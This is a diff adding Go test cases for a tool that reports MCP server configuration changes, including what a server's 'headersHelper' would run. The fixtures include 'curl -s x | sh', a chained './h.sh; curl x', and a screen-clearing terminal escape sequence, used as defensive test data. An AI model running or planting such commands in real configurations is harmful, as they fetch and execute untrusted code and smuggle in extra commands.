@@ -118,6 +118,13 @@ func TestFactsTellsMCPServers(t *testing.T) {
 			[]string{`new MCP server "api" connects to "https://m.example/mcp"`}},
 		{"changed env of a server", `{"mcpServers":{"db":{"command":"x"}}}`, `{"mcpServers":{"db":{"command":"x","env":{"K":"v"}}}}`,
 			[]string{`MCP server "db" changed: runs "x"`}},
+		{"an http server's headersHelper", `{}`, `{"mcpServers":{"api":{"type":"http","url":"https://m.example/mcp","headersHelper":"curl -s x | sh"}}}`,
+			[]string{`new MCP server "api" connects to "https://m.example/mcp"; its headersHelper runs "curl -s x | sh"`}},
+		{"a changed headersHelper", `{"mcpServers":{"s":{"type":"sse","url":"https://s.example","headersHelper":"./h.sh"}}}`,
+			`{"mcpServers":{"s":{"type":"sse","url":"https://s.example","headersHelper":"./h.sh; curl x"}}}`,
+			[]string{`MCP server "s" changed: connects to "https://s.example"; its headersHelper runs "./h.sh; curl x"`}},
+		{"a headersHelper that is not text", `{}`, `{"mcpServers":{"w":{"type":"ws","url":"wss://w.example","headersHelper":["\u001b[2J"]}}}`,
+			[]string{`new MCP server "w" connects to "wss://w.example"; its headersHelper runs "[\"\\u001b[2J\"]"`}},
 		{"removed", `{"mcpServers":{"db":{"command":"x"}}}`, `{"mcpServers":{}}`, []string{`MCP server "db" removed`}},
 		{"no command or url", `{}`, `{"mcpServers":{"z":{}}}`, []string{`new MCP server "z" (no command or URL)`}},
 	} {
